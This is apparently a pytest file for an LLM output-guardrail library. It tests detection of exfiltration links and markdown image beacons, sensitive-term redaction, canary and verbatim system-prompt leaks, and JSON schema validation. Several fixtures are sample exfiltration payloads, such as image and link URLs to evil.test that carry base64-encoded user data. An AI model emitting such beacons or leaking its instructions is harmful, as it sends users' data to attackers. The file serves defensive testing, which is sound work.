"""Output guards: exfiltration links and image beacons, sensitive terms, canary leaks, schema validation."""

from __future__ import annotations

import pytest

from tether.exceptions import ConfigError
from tether.guardrails import (
    CanaryGuard,
    ExfiltrationGuard,
    GuardContext,
    SchemaGuard,
    SensitiveTermsGuard,
    canary_instruction,
    make_canary,
)

OUT = GuardContext(stage="output")
EXFIL = ExfiltrationGuard(["example.com"])


def test_markdown_image_beacon_is_blocked() -> None:
    text = "Done! ![x](https://evil.test/pixel.png?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgdXNlcg)"
    verdict = EXFIL.check(text, OUT)[0]
    assert verdict.action == "block" and verdict.spans[0].label == "image"


def test_images_and_links_on_allowed_hosts_pass() -> None:
    text = "See ![chart](https://cdn.example.com/c.png) and https://docs.example.com/guide?page=2"
    assert EXFIL.check(text, OUT) == []


def test_data_carrying_link_blocks_plain_link_flags() -> None:
    assert (
        EXFIL.check("visit https://evil.test/c?q=eyJ1c2VyIjoiamFuZUBleGFtcGxlLmNvbSJ9", OUT)[0].action
        == "block"
    )
    assert EXFIL.check("more at https://wikipedia.org/wiki/Tea", OUT)[0].action == "flag"


def test_userinfo_and_html_tricks() -> None:
    assert EXFIL.check('<img src="https://example.com@evil.test/a.png">', OUT)[0].action == "block"
    assert EXFIL.check("![a](data:image/png;base64,iVBORw0KGgo=)", OUT) == []
    assert EXFIL.check("mail jane@evil.test", OUT)[0].spans[0].label == "email"


def test_sensitive_terms_block_or_redact() -> None:
    guard = SensitiveTermsGuard(["Project Falcon", "falcon-db.internal"], action="redact")
    verdict = guard.check("Project falcon runs on falcon-db.internal.", OUT)[0]
    assert verdict.redacted_text == "[SENSITIVE_TERM] runs on [SENSITIVE_TERM]."
    assert SensitiveTermsGuard(["Falcon"]).check("falconry is a hobby", OUT) == []
    with pytest.raises(ConfigError):
        SensitiveTermsGuard([" "])


def test_canary_and_verbatim_leaks() -> None:
    canary = make_canary()
    assert canary in canary_instruction(canary)
    instructions = (
        "You are the billing assistant of Acme. Never discuss refunds above 500 euros without a manager. "
        "Always answer in the language of the customer and keep answers short."
    )
    guard = CanaryGuard([canary], protected_text=instructions)
    assert guard.check(f"my marker is {canary.upper()}", OUT)[0].spans[0].label == "canary"
    leak = (
        "Sure: never discuss refunds above 500 euros without a manager. Always answer in the language of the"
    )
    assert guard.check(leak, OUT)[0].spans[0].label == "verbatim"
    assert guard.check("Refunds above 500 euros need a manager's approval.", OUT) == []
    with pytest.raises(ConfigError):
        CanaryGuard()


SCHEMA = {
    "type": "object",
    "properties": {
        "answer": {"type": "string", "minLength": 1},
        "confidence": {"type": "number", "maximum": 1},
    },
    "required": ["answer", "confidence"],
    "additionalProperties": False,
}


def test_schema_accepts_valid_json_and_fenced_json() -> None:
    guard = SchemaGuard(SCHEMA)
    assert guard.check('{"answer": "42", "confidence": 0.9}', OUT) == []
    assert guard.check('```json\n{"answer": "42", "confidence": 0.9}\n```', OUT) == []


def test_schema_errors_are_the_message_for_reflection() -> None:
    verdict = SchemaGuard(SCHEMA).check('{"answer": "", "confidence": 2, "extra": 1}', OUT)[0]
    assert verdict.category == "schema" and verdict.action == "block"
    for fragment in ("shorter than 1", "must be <= 1", "unexpected properties ['extra']"):
        assert fragment in verdict.message
    assert "not valid JSON" in SchemaGuard(SCHEMA).check("the answer is 42", OUT)[0].message


def test_schema_with_a_callable_validator() -> None:
    def positive(value: object) -> None:
        if not isinstance(value, int) or value <= 0:
            raise ValueError("expected a positive integer")

    guard = SchemaGuard(positive)
    assert guard.check("7", OUT) == []
    assert "positive integer" in guard.check("-1", OUT)[0].message
